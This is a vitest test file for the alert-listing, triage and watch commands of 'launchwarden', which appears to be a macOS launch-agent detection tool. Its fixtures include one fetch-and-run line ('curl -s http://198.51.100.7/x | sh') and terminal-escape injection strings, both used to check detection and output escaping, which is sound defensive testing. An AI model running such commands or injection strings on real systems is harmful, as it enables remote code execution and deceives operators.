import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { type ControlHandlers, ControlServer } from '../../../src/agent/control.js';
import { applyTriage, triageOp } from '../../../src/agent/triage.js';
import { systemClock } from '../../../src/base/clock.js';
import { silentLogger } from '../../../src/base/log.js';
import type { Detection } from '../../../src/event/alert.js';
import { openStore } from '../../../src/store/index.js';
import { cli, documents, tempFolder } from '../../helpers/run-cli.js';
import {
  detection,
  event,
  fileEvent,
  plistPath,
  processEvent,
  rule,
  sha256,
  storedAlerts,
} from './alert-fixture.js';

const medium = {
  ...rule,
  id: '70244694-b1d5-459e-b5c7-950851876668',
  name: 'DirectoryService plug-in created or changed',
  severity: 'medium' as const,
  riskScore: 47,
};

/** Two alerts: a low one of 05:40 and a medium one an hour later. */
function twoAlerts(): string {
  const later = event('f2', '2026-11-22T06:40:00.000000Z', {
    event: { category: ['file'], type: ['change'], action: 'modification' },
    file: { path: '/Library/DirectoryServices/PlugIns/x.dsplug' },
  });
  return storedAlerts([
    detection(),
    detection({ id: '77c0'.repeat(8), rule: medium, events: [later], candidates: [] }),
  ]);
}

async function listed(dataDir: string, ...filters: string[]): Promise<unknown[]> {
  const { code, stdout } = await cli(['alerts', 'list', '--json', '--data-dir', dataDir, ...filters]);
  expect(code).toBe(0);
  return documents(stdout).map((one) => one['severity']);
}

describe('alerts list', () => {
  test('newest first, one row each', async () => {
    const dataDir = twoAlerts();
    const { code, stdout } = await cli(['alerts', 'list', '--data-dir', dataDir]);
    expect(code).toBe(0);
    const [head, ...rows] = stdout.trimEnd().split('\n');
    expect(head).toMatch(/^ID +TIME \(UTC\) +PRIORITY +SEVERITY +STATUS +STAGE +RULE +SUBJECT +FINDINGS$/);
    expect(rows).toEqual([
      expect.stringMatching(
        /^77c077c077c0 {2}2026-11-22 06:40:00 {2}medium 40 {2}medium {4}open .*x\.dsplug$/,
      ),
      expect.stringMatching(
        /^3f9a01aa3f9a {2}2026-11-22 05:40:13 {2}low 20 {5}low {7}open .*com\.evil\.plist {2}ad-hoc-program\+5.*$/,
      ),
    ]);
  });

  test('--json gives a versioned document with the ECS document', async () => {
    const { stdout } = await cli([
      'alerts',
      'list',
      '--json',
      '--data-dir',
      twoAlerts(),
      '--severity',
      'low',
    ]);
    expect(documents(stdout)).toMatchObject([
      {
        schema: 'launchwarden.alert/1',
        id: '3f9a01aa'.repeat(4),
        revision: 1,
        status: 'open',
        severity: 'low',
        risk_score: 21,
        rule_id: rule.id,
        rule_name: rule.name,
        time: '2026-11-22T05:40:13.290123Z',
        notes: [],
        doc: { event: { kind: 'alert' }, file: { path: plistPath } },
      },
    ]);
  });

  test('the filters', async () => {
    const dataDir = twoAlerts();
    expect(await listed(dataDir)).toEqual(['medium', 'low']);
    expect(await listed(dataDir, '--severity', 'low,high')).toEqual(['low']);
    expect(await listed(dataDir, '--severity', 'low', '--severity', 'medium')).toEqual(['medium', 'low']);
    expect(await listed(dataDir, '--since', '2026-11-22T06:00:00Z')).toEqual(['medium']);
    expect(await listed(dataDir, '--until', '2026-11-22T06:00:00Z')).toEqual(['low']);
    expect(await listed(dataDir, '--rule', rule.id)).toEqual(['low']);
    expect(await listed(dataDir, '--rule', medium.name.toUpperCase())).toEqual(['medium']);
    expect(await listed(dataDir, '--status', 'closed')).toEqual([]);
    expect(await listed(dataDir, '--limit', '1')).toEqual(['medium']);
    expect(await listed(dataDir, '--since', '1s')).toEqual([]);
  });

  test('pages through more than one page', async () => {
    const many = Array.from({ length: 450 }, (_, index) =>
      detection({
        id: index.toString(16).padStart(32, '0'),
        events: [fileEvent()],
        time: fileEvent().time + index,
      }),
    );
    const dataDir = storedAlerts(many);
    expect(await listed(dataDir, '--limit', '420')).toHaveLength(420);
    const { stdout } = await cli(['alerts', 'list', '--json', '--data-dir', dataDir, '--limit', '1000']);
    const ids = documents(stdout).map((one) => one['id']);
    expect(ids).toEqual(many.map(({ id }) => id).reverse());
  });

  test('by priority: what findings speak against comes first, whatever its severity and age', async () => {
    const evil = fileEvent('e1');
    evil.doc.launchwarden = {
      ...evil.doc.launchwarden,
      findings: ['remote-script', 'apple-label', 'dyld-environment'],
    };
    const harmless = (id: string, minutes: number) =>
      detection({
        id,
        events: [event(id, `2026-11-22T07:${minutes}:00Z`, { file: { path: `/${id}` } })],
        candidates: [],
      });
    const dataDir = storedAlerts([
      detection({ id: 'ee', events: [evil], candidates: [] }),
      harmless('aa', 10),
      harmless('bb', 20),
    ]);
    const ids = async (...more: string[]) => {
      const { stdout } = await cli(['alerts', 'list', '--json', '--data-dir', dataDir, ...more]);
      return documents(stdout).map((one) => one['id']);
    };
    expect(await ids('--sort', 'priority')).toEqual(['ee', 'bb', 'aa']);
    expect((await ids('--sort', 'time')).at(-1)).toBe('ee');
    const { stdout } = await cli(['alerts', 'list', '--data-dir', dataDir, '--sort', 'priority']);
    expect(stdout.split('\n')[1]).toMatch(/^ee .* critical 100 +low +open/);
  });

  test('one line a story, with its stage and what is gravest in it; --flat shows the alerts', async () => {
    const persistence = { item_id: 'item-1', mechanism: 'launch-agent', path: plistPath };
    const about = (id: string, more: Partial<Detection> = {}) => {
      const file = fileEvent(id);
      file.doc.launchwarden = { ...file.doc.launchwarden, findings: [], plist: { label: 'l' }, persistence };
      return detection({
        id: id.repeat(16),
        events: [file, processEvent(`p${id}`)],
        candidates: [],
        ...more,
      });
    };
    const grave = about('bb', { rule: medium });
    const dataDir = storedAlerts([about('aa'), grave, about('cc'), detection()]);
    const store = openStore({ dataDir, clock: systemClock });
    store.stories.observe(grave.events.filter((one) => one !== null));
    store.stories.alerted('item-1', grave.time, { event: 'pbb', says: 'By launchctl load.' });
    store.close();
    const list = async (...more: string[]) =>
      (await cli(['alerts', 'list', '--data-dir', dataDir, ...more])).stdout.trimEnd().split('\n').slice(1);
    expect(await list()).toEqual([
      expect.stringMatching(/^3f9a.* low +open +Launch agent/),
      expect.stringMatching(
        /^bbbbbbbbbbbb .* medium 40 +medium +open +loaded +Directory.* \(\+2\) .*com\.evil\.plist$/,
      ),
    ]);
    expect((await list('--sort', 'priority'))[0]).toMatch(/^bbbb/);
    expect(await list('--flat')).toHaveLength(4);
    const json = documents(
      (await cli(['alerts', 'list', '--json', '--stories', '--data-dir', dataDir, '--sort', 'priority']))
        .stdout,
    );
    expect(json[0]).toMatchObject({
      schema: 'launchwarden.story/1',
      item: 'item-1',
      stage: 'loaded',
      alerts: 3,
      severity: 'medium',
      steps: [{ stage: 'written' }, { stage: 'loaded', says: 'By launchctl load.' }],
    });
    await cli(['alerts', 'close', '3f9a01aa', 'bbbbbbbb', '--data-dir', dataDir]);
    expect(await list()).toEqual([
      expect.stringMatching(/^cccc.*\(\+1\)/),
      'Closed alerts are not shown: --status closed, or all.',
    ]);
    expect(await list('--status', 'closed')).toHaveLength(2);
    expect((await list('--limit', '1', '--status', 'closed')).at(-1)).toBe(
      'Showing 1 of 2 alerts in 1 line: --limit N shows more.',
    );
    const shown = (await cli(['alerts', 'show', 'bbbb', '--data-dir', dataDir])).stdout;
    expect(shown).toMatch(/The item's story\n.* written\n.* loaded {2}By launchctl load\./);
  });

  test('nothing found is said, and is no failure', async () => {
    const { code, stdout, stderr } = await cli([
      'alerts',
      'list',
      '--data-dir',
      twoAlerts(),
      '--since',
      '1s',
    ]);
    expect({ code, stdout }).toEqual({ code: 0, stdout: 'No alerts.\n' });
    expect(stderr).toMatch(/^launchwarden: no agent runs on \S+: what happens now is not seen\n$/);
  });

  test('nothing found while an agent runs needs no further word', async () => {
    const dataDir = twoAlerts();
    const daemon = await ControlServer.listen(dataDir, { status: () => ({}) }, silentLogger);
    try {
      const run = await cli(['alerts', 'list', '--data-dir', dataDir, '--since', '1s']);
      expect(run).toEqual({ code: 0, stdout: 'No alerts.\n', stderr: '' });
    } finally {
      await daemon.close();
    }
  });

  test('an unknown rule names the nearest; the whole id of one that is gone does not', async () => {
    const dataDir = twoAlerts();
    const { code, stderr } = await cli(['alerts', 'list', '--data-dir', dataDir, '--rule', `${rule.name}s`]);
    expect(code).toBe(2);
    expect(stderr).toContain(`Did you mean "${rule.name}"?`);
    expect(await listed(dataDir, '--rule', '00000000-0000-4000-8000-000000000000')).toEqual([]);
  });

  test('a data folder that is not there is an error and is not made', async () => {
    const dataDir = path.join(tempFolder(), 'none');
    const { code, stderr } = await cli(['alerts', 'list', '--data-dir', dataDir]);
    expect(code).toBe(2);
    expect(stderr).toContain(dataDir);
    expect(existsSync(dataDir)).toBe(false);
  });
});

describe('alerts show', () => {
  test('tells everything at first sight', async () => {
    const argv = ['alerts', 'show', '3f9a', '--data-dir', twoAlerts()];
    const { code, stdout } = await cli([...argv, '--full']);
    expect(code).toBe(0);
    const expected = [
      'LOW 20  Launch agent written and loaded within a minute  [open]',
      'low, 20 of 100; the rule by itself says low (risk 21)',
      'SIMULATED',
      '3f9a01aa3f9a01aa3f9a01aa3f9a01aa',
      'alice (uid 501)',
      'TA0003 Persistence',
      'T1543 Create or Modify System Process',
      'T1543.001 Launch Agent',
      'file-watch, process-scan',
      '1  05:40:13.281123Z · file modification · seen by file-watch',
      '2  between 05:40:13.285000Z and 05:40:13.290123Z · process exec · seen by process-scan',
      'the process names this path',
      'com.evil.agent',
      "/bin/sh -c 'curl -s http://198.51.100.7/x | sh'",
      'evil-555, ad hoc',
      'RunAtLoad, WatchPaths',
      'shell-one-liner',
      '+5  Nobody has signed the program: its signature is ad hoc. (ad-hoc-program)',
      'binary',
      'file, 512 bytes, mode 0644, inode 12345',
      'alice (501)',
      sha256,
      'launchctl (pid 4242)',
      '/bin/launchctl',
      `launchctl load -w ${plistPath}`,
      '/Users/alice',
      'zsh (pid 4000)',
      'An installer that loads its agent at once.',
      'Something was loaded. Ask alice.',
      'https://example.org/rule',
    ];
    for (const text of expected) expect(stdout).toContain(text);
    expect(stdout.indexOf('1  05:40')).toBeLessThan(stdout.indexOf('2  between'));
    const usual = (await cli(argv)).stdout;
    expect(usual).toContain('--full: file, process, rule');
    expect(usual).not.toContain('Something was loaded. Ask alice.');
  });

  test('shows why candidates rank as they do, ten of them, and how many there are', async () => {
    const files = Array.from({ length: 15 }, (_, index) =>
      fileEvent(`c${index}`, { path: `/f/${index}.plist` }),
    );
    const candidates = files.map((one, index) => ({
      event: one,
      named: index === 0,
      link: index === 0 ? ('label' as const) : ('window' as const),
    }));
    const dataDir = storedAlerts([detection({ candidates })]);
    const { stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
    expect(stdout).toMatch(/1 {2}\/f\/0\.plist\n.*the process names its label/);
    expect(stdout).toMatch(/2 {2}\/f\/1\.plist\n.*changed inside the window/);
    expect(stdout).toContain('… and 5 more');
    expect(stdout).not.toContain('/f/10.plist\n');
  });

  test('what is copied from it stays whole: an address, and a long path, also on a narrow terminal', async () => {
    const path = `/f/${'long'.repeat(50)}.plist`;
    const reference = `https://example.org/${'page'.repeat(50)}`;
    const long = detection({ rule: { ...rule, references: [reference] } });
    long.events[0]!.doc.file!.path = path;
    const dataDir = storedAlerts([long]);
    const argv = ['alerts', 'show', '3f9a', '--full', '--data-dir', dataDir];
    for (const setting of [{}, { columns: 60, env: { NO_COLOR: '1' } }]) {
      const { stdout } = await cli(argv, setting);
      expect(stdout).toContain(path);
      expect(stdout).toContain(reference);
    }
  });

  test('a summary lists what was held back, with the calls that name it', async () => {
    const candidates = Array.from({ length: 60 }, (_, index) => ({
      event: fileEvent(`f${index}`, { path: `/Users/alice/Library/LaunchAgents/${index}.plist` }),
      named: true,
      link: 'path' as const,
      process: processEvent(`p${index}`, { args: ['launchctl', 'load', `${index}\u001b[2J.plist`] }),
    }));
    const summary = detection({ kind: 'summary', events: [], candidates, suppressed: 70 });
    const dataDir = storedAlerts([summary]);
    const { stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
    expect(stdout).toContain('Held back by max_signals, best first\n');
    expect(stdout).toContain(
      '\n  1  /Users/alice/Library/LaunchAgents/0.plist\n' +
        '     05:40:13.281123Z, modification, the process names this path, label com.evil.agent\n' +
        '     05:40:13.290123Z, process launchctl load 0\\x1b[2J.plist\n',
    );
    expect(stdout).toContain('\n  50  /Users');
    expect(stdout).toContain('\n  … and 20 more; --json has the first 60\n');
    expect(stdout).not.toContain('\n  51  /Users');
  });

  test('an unknown id names the nearest, an ambiguous one says so', async () => {
    const dataDir = storedAlerts([
      detection(),
      detection({ id: `3f9b${'0'.repeat(28)}` }),
      detection({ id: `3f9b${'1'.repeat(28)}` }),
    ]);
    const ambiguous = await cli(['alerts', 'show', '3f9b', '--data-dir', dataDir]);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toMatch(/2 ids begin with "3f9b".*\n.*\n {2}3f9b0{8} \(/);
    const unknown = await cli(['alerts', 'show', '3f9c', '--data-dir', dataDir]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(
      /there is no alert "3f9c" \[alerts\/unknown\]\n {2}Did you mean 3f9[ab][0-9a-f]{8} \(Launch agent written.*\)\?/,
    );
    const short = await cli(['alerts', 'show', '3f9', '--data-dir', dataDir]);
    expect(short.code).toBe(2);
    expect(short.stderr).toContain('at least 4 characters');
  });

  test('a document of odd types is shown as far as it goes', async () => {
    const odd = processEvent('p9', {
      name: ['a'],
      args: 'not a list',
      parent: 'nobody',
      pid: { deep: true },
      code_signature: 7,
    } as never);
    const file = fileEvent('f9', { path: 17, hash: null } as never);
    const dataDir = storedAlerts([detection({ events: [file, odd, null], candidates: [] })]);
    const { code, stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
    expect(code).toBe(0);
    expect(stdout).toContain('not a list');
  });
});

describe('hostile text', () => {
  const evil =
    '/Users/a/\u001b]0;owned\u0007\u001b[2J\u202egnp.\u202c\nFAKE  row\r\u0085\u2028x\u{e0041}.plist';
  const hostile = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029\u{e0000}-\u{e007f}]/u;

  function hostileAlert(): string {
    const file = fileEvent('f1', { path: evil, owner: evil });
    const process = processEvent('p1', {
      name: evil,
      executable: evil,
      args: ['launchctl', evil],
      command_line: evil,
      working_directory: evil,
      parent: { name: evil, args: [evil] },
    });
    const plist = {
      ...file.doc.launchwarden,
      plist: { label: evil, program: evil, triggers: [evil] },
      findings: [evil],
    };
    const planted = { ...file, doc: { ...file.doc, launchwarden: plist } };
    return storedAlerts([
      detection({
        rule: {
          ...rule,
          name: evil,
          note: evil.replace('\n', ''),
          falsePositives: [evil],
          references: [evil],
        },
        events: [planted, process],
        candidates: [{ event: planted, named: true, link: 'path' }],
      }),
    ]);
  }

  test.each([
    ['list'],
    ['show', '3f9a'],
    ['list', '--json'],
    ['show', '3f9a', '--json'],
    ['note', '3f9a01aa', evil],
  ])('alerts %s', async (...argv) => {
    const dataDir = hostileAlert();
    const { code, stdout } = await cli(['alerts', ...argv, '--data-dir', dataDir]);
    expect(code).toBe(0);
    expect(stdout).not.toMatch(hostile);
    if (argv.includes('--json')) {
      const [document] = documents(stdout);
      expect(document).toMatchObject({ doc: { file: { path: evil } } });
    } else if (argv[0] === 'list') {
      expect(stdout.trimEnd().split('\n')).toHaveLength(2);
      expect(stdout).toContain('\\x1b]0;owned\\x07');
    } else expect(stdout).toContain('\\x1b]0;owned\\x07');
    if (argv[0] === 'show' && argv.length === 2) expect(stdout).not.toMatch(/^ *FAKE/m);
  });

  test('a note and its author are shown escaped', async () => {
    const dataDir = storedAlerts();
    await cli(['alerts', 'note', '3f9a01aa', evil, '--data-dir', dataDir], { user: '\u001b[1mroot' });
    const { stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
    expect(stdout).not.toMatch(hostile);
    expect(stdout).toContain('\\x1b[1mroot');
  });
});

describe('colours', () => {
  const colour = /\u001b\[/;
  const run = (setting: Parameters<typeof cli>[1]) =>
    cli(['alerts', 'list', '--data-dir', storedAlerts()], setting).then(({ stdout }) => colour.test(stdout));

  test('only on a terminal, and as NO_COLOR, FORCE_COLOR and TERM say', async () => {
    expect(await run({})).toBe(false);
    expect(await run({ columns: 100 })).toBe(true);
    expect(await run({ columns: 100, env: { NO_COLOR: '1' } })).toBe(false);
    expect(await run({ columns: 100, env: { NO_COLOR: '' } })).toBe(true);
    expect(await run({ columns: 100, env: { TERM: 'dumb' } })).toBe(false);
    expect(await run({ env: { FORCE_COLOR: '1' } })).toBe(true);
    expect(await run({ columns: 100, env: { FORCE_COLOR: '0' } })).toBe(false);
  });

  test('--json has none', async () => {
    const { stdout } = await cli(['alerts', 'list', '--json', '--data-dir', storedAlerts()], {
      columns: 100,
    });
    expect(stdout).not.toMatch(colour);
  });

  test('a narrow terminal gets rows that fit, elsewhere nothing is cut', async () => {
    const file = fileEvent('f1', { path: `/Users/alice/${'目'.repeat(60)}/x.plist` });
    const dataDir = storedAlerts([detection({ events: [file], candidates: [] })]);
    const narrow = await cli(['alerts', 'list', '--data-dir', dataDir], {
      columns: 100,
      env: { NO_COLOR: '1' },
    });
    const cells = (line: string) => [...line].reduce((sum, one) => sum + (one === '目' ? 2 : 1), 0);
    for (const line of narrow.stdout.trimEnd().split('\n')) expect(cells(line)).toBeLessThanOrEqual(100);
    expect(narrow.stdout).toContain('…');
    expect((await cli(['alerts', 'list', '--data-dir', dataDir])).stdout).toContain(
      `${'目'.repeat(60)}/x.plist`,
    );
  });
});

describe('80 columns', () => {
  const plain = { columns: 80, env: { NO_COLOR: '1' } };

  test('rule and file stand below the rest, and say enough', async () => {
    const dataDir = storedAlerts();
    const { stdout } = await cli(['alerts', 'list', '--data-dir', dataDir], plain);
    const [head, more, first, second, ...rest] = stdout.trimEnd().split('\n');
    expect([head, more]).toEqual([
      'ID            TIME (UTC)           PRIORITY  SEVERITY  STATUS',
      expect.stringMatching(/^ {2}STAGE +RULE +SUBJECT$/),
    ]);
    expect(first).toMatch(/^3f9a[0-9a-f]{8} {2}2026-.* low \d+ +low +open$/);
    expect(second).toMatch(/^ {9}Launch agent.* {2}\/Users.*\.plist$/);
    expect(rest).toEqual([expect.stringMatching(/^ {4}changed, user alice; \+5 .*…$/)]);
    for (const line of stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
    const rules = (await cli(['rules', 'list'], plain)).stdout;
    for (const line of rules.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
    expect(rules).toMatch(/^ {2}Launch agent writte….* {2}builtin\/launch-agen…/m);
  });

  test('a terminal that does not know its width gets everything', async () => {
    const argv = ['alerts', 'list', '--data-dir', storedAlerts()];
    const unknown = await cli(argv, { columns: 0, env: { NO_COLOR: '1' } });
    expect(unknown.stdout).toBe((await cli(argv)).stdout);
  });

  test('colours take no room, and the number of an item stands beside it', async () => {
    const argv = ['alerts', 'show', '3f9a', '--data-dir', storedAlerts()];
    const bare = (await cli(argv, plain)).stdout;
    const coloured = (await cli(argv, { columns: 80 })).stdout;
    expect(coloured.replace(/\u001b\[[\d;]*m/g, '')).toBe(bare);
    const long = detection();
    long.events[0]!.doc.file!.path = `/Users/alice/Library/LaunchAgents/${'x'.repeat(200)}.plist`;
    const piped = (await cli(['alerts', 'show', '3f9a', '--data-dir', storedAlerts([long])])).stdout;
    expect(piped).not.toMatch(/^ +\d+ *$/m);
  });
});

test('a time that ends before it begins is a mistake, not a listing of nothing', async () => {
  const range = ['--since', '1d', '--until', '2d', '--data-dir', storedAlerts()];
  for (const argv of [
    ['alerts', 'list'],
    ['hunt', '--query', 'any where true'],
  ]) {
    const { code, stdout, stderr } = await cli([...argv, ...range]);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toContain('--until is not later than --since');
  }
});

describe('triage', () => {
  const show = async (dataDir: string) => {
    const { stdout } = await cli(['alerts', 'show', '3f9a', '--json', '--data-dir', dataDir]);
    return documents(stdout)[0] as {
      status: string;
      notes: { author: string; kind: string; text: string }[];
    };
  };

  test('ack, note, close and reopen without a daemon, with author', async () => {
    const dataDir = twoAlerts();
    const run = async (...argv: string[]) => {
      const { code, stderr } = await cli(['alerts', ...argv, '--data-dir', dataDir], {
        user: 'root',
        env: { SUDO_USER: 'carol' },
      });
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    };
    await run('ack', '3f9a01aa', '--note', 'asked alice');
    expect((await show(dataDir)).status).toBe('acknowledged');
    await run('note', '3f9a01aa', 'binary', 'sent');
    await run('close', '3f9a01aa', '77c077c0');
    expect(await listed(dataDir, '--status', 'closed')).toEqual(['medium', 'low']);
    await run('reopen', '3f9a01aa');
    const { status, notes } = await show(dataDir);
    expect(status).toBe('open');
    expect(notes.map(({ author, kind, text }) => [author, kind, text])).toEqual([
      ['carol', 'acknowledged', 'asked alice'],
      ['carol', 'note', 'binary sent'],
      ['carol', 'closed', ''],
      ['carol', 'open', ''],
    ]);
  });

  test('nothing is changed when one of several ids is unknown', async () => {
    const dataDir = twoAlerts();
    const { code } = await cli(['alerts', 'close', '3f9a01aa', 'deaddead', '--data-dir', dataDir]);
    expect(code).toBe(2);
    expect((await show(dataDir)).status).toBe('open');
  });

  test('an empty or endless note is refused', async () => {
    const dataDir = twoAlerts();
    expect((await cli(['alerts', 'note', '3f9a01aa', ' ', '--data-dir', dataDir])).stderr).toContain(
      'alerts/empty-note',
    );
    const long = await cli(['alerts', 'note', '3f9a01aa', 'x'.repeat(16_385), '--data-dir', dataDir]);
    expect(long.stderr).toContain('alerts/long-note');
    expect((await show(dataDir)).notes).toEqual([]);
  });

  test('a running daemon writes for us', async () => {
    const dataDir = twoAlerts();
    const store = openStore({ dataDir, clock: systemClock });
    const asked: unknown[] = [];
    const handlers: ControlHandlers = {
      [triageOp]: (args) => {
        asked.push(args);
        return applyTriage(store, args, []);
      },
    };
    const daemon = await ControlServer.listen(dataDir, handlers, silentLogger);
    try {
      const { code, stdout } = await cli(['alerts', 'ack', '3f9a01aa', '--json', '--data-dir', dataDir]);
      expect(code).toBe(0);
      expect(documents(stdout)).toMatchObject([{ status: 'acknowledged' }]);
      expect(asked).toEqual([
        { ids: ['3f9a01aa'.repeat(4)], action: 'acknowledged', author: 'tester', text: '' },
      ]);
    } finally {
      await daemon.close();
      store.close();
    }
  });

  test('a data folder that is held and does not listen is said to be unreachable', async () => {
    const dataDir = twoAlerts();
    const store = openStore({ dataDir, clock: systemClock });
    try {
      const { code, stderr } = await cli(['alerts', 'ack', '3f9a01aa', '--data-dir', dataDir]);
      expect(code).toBe(3);
      expect(stderr).toContain('store/locked');
    } finally {
      store.close();
    }
    expect((await show(dataDir)).status).toBe('open');
  });

  test('a damaged request to the daemon is refused', () => {
    const store = openStore({ dataDir: twoAlerts(), clock: systemClock });
    try {
      for (const args of [undefined, null, 7, {}, { ids: ['x'], action: 'drop', author: '', text: '' }])
        expect(() => applyTriage(store, args, [])).toThrow(
          expect.objectContaining({ code: 'alerts/bad-request' }),
        );
      expect(applyTriage(store, { ids: ['zz'], action: 'note', author: 'a', text: 'b' }, []).results).toEqual(
        [{ id: 'zz', outcome: 'unknown' }],
      );
    } finally {
      store.close();
    }
  });
});

describe('alerts watch', () => {
  /** Runs it until `enough` of its output has come, changing the store once it watches. */
  async function watch(dataDir: string, argv: readonly string[], enough: (output: string) => boolean) {
    const controller = new AbortController();
    let output = '';
    const onOutput = (text: string) => {
      output += text;
      if (enough(output)) controller.abort();
    };
    return cli(['alerts', 'watch', ...argv, '--data-dir', dataDir], { signal: controller.signal, onOutput });
  }

  test('prints what there is since a time, then what changes, and ends with 0 when interrupted', async () => {
    const dataDir = twoAlerts();
    let changed = false;
    const { code, stdout } = await watch(dataDir, ['--json', '--since', '2026-01-01'], (output) => {
      const lines = output.trimEnd().split('\n');
      if (lines.length === 2 && !changed) {
        changed = true;
        const store = openStore({ dataDir, clock: systemClock });
        applyTriage(store, { ids: ['77c0'.repeat(8)], action: 'closed', author: 'bob', text: '' }, []);
        store.close();
      }
      return lines.length >= 3;
    });
    expect(code).toBe(0);
    expect(documents(stdout).map(({ severity, status }) => [severity, status])).toEqual([
      ['low', 'open'],
      ['medium', 'open'],
      ['medium', 'closed'],
    ]);
  });

  test('filters, as lines for people', async () => {
    const { stdout } = await watch(twoAlerts(), ['--since', '2026-01-01', '--severity', 'medium'], (output) =>
      output.includes('\n'),
    );
    expect(stdout).toMatch(/^2026-11-22 06:40:00 UTC {2}77c077c077c0 {2}medium 40 {5}new .*x\.dsplug\n$/);
  });

  test('on a terminal a list that follows what changes, and leaves the screen as it was', async () => {
    const dataDir = twoAlerts();
    const controller = new AbortController();
    const screens: string[] = [];
    const onOutput = (text: string) => {
      if (!text.includes('\u001b[2J')) return;
      screens.push(text);
      if (screens.length === 2) controller.abort();
      if (screens.length > 1) return;
      const store = openStore({ dataDir, clock: systemClock });
      applyTriage(store, { ids: ['77c0'.repeat(8)], action: 'closed', author: 'bob', text: '' }, []);
      store.close();
    };
    const { code, stdout } = await cli(['alerts', 'watch', '--data-dir', dataDir], {
      columns: 80,
      rows: 24,
      env: { NO_COLOR: '1' },
      signal: controller.signal,
      onOutput,
    });
    expect(code).toBe(0);
    expect(screens[0]).toMatch(/2 open, 0 acknowledged[\s\S]*3f9a01aa3f9a[\s\S]*77c077c077c0/);
    expect(screens[1]).toMatch(/1 open, 0 acknowledged[\s\S]*3f9a01aa3f9a/);
    expect(screens[1]).not.toContain('77c077c077c0');
    for (const text of screens) expect(text.split('\n').length).toBeLessThanOrEqual(24);
    expect(stdout.startsWith('\u001b[?1049h')).toBe(true);
    expect(stdout.endsWith('\u001b[?1049l')).toBe(true);
  });

  test('without --since only what comes from now on', async () => {
    const controller = new AbortController();
    controller.abort();
    const { code, stdout } = await cli(['alerts', 'watch', '--data-dir', twoAlerts()], {
      signal: controller.signal,
    });
    expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
  });
});

test('reading leaves the data folder as it is', async () => {
  const dataDir = twoAlerts();
  const before = readdirSync(dataDir).filter((name) => !/-(wal|shm)$/.test(name));
  await cli(['alerts', 'list', '--data-dir', dataDir]);
  expect(readdirSync(dataDir).filter((name) => !/-(wal|shm)$/.test(name))).toEqual(before);
});
